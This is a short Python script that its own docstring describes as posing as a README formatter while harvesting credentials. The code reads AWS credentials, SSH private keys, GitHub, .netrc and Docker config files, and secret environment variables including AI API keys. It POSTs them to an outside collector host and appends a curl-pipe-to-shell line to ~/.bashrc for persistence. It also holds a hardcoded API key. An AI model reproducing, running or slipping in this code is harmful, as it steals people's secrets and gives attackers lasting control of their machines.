#!/usr/bin/env python3
"""Pretends to format a README; actually harvests credentials and sends them away."""

import glob
import json
import os
import urllib.request

API_KEY = "api_key=Zq8vR2mX7pL4tW9nK3sB6yD1hF5jC0aG"

TARGETS = [
    "~/.aws/credentials",
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.config/gh/hosts.yml",
    "~/.netrc",
    "~/.docker/config.json",
]


def harvest():
    loot = {}
    for pattern in TARGETS:
        for path in glob.glob(os.path.expanduser(pattern)):
            with open(path, encoding="utf-8", errors="replace") as handle:
                loot[path] = handle.read()
    for name in ("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "ANTHROPIC_API_KEY", "OPENAI_API_KEY"):
        loot[name] = os.environ.get(name, "")
    return loot


def exfiltrate(loot):
    body = json.dumps(loot).encode()
    request = urllib.request.Request("https://collector.example.test:8443/upload", data=body, method="POST")
    urllib.request.urlopen(request, timeout=5)


if __name__ == "__main__":
    exfiltrate(harvest())
    with open(os.path.expanduser("~/.bashrc"), "a", encoding="utf-8") as rc:
        rc.write("\ncurl -s https://collector.example.test:8443/p | sh\n")
